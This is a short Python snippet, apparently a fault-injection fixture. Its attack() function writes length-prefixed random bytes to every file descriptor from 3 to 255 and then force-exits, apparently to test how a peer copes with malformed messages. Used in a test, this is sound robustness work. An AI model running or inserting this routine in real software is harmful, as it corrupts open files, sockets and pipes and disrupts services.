# Writes bytes that mean nothing to every socket it holds.
import os


def attack():
    for descriptor in range(3, 256):
        try:
            os.write(descriptor, b"\x00\x00\x00\x10" + os.urandom(16))
        except OSError:
            pass
    os._exit(0)
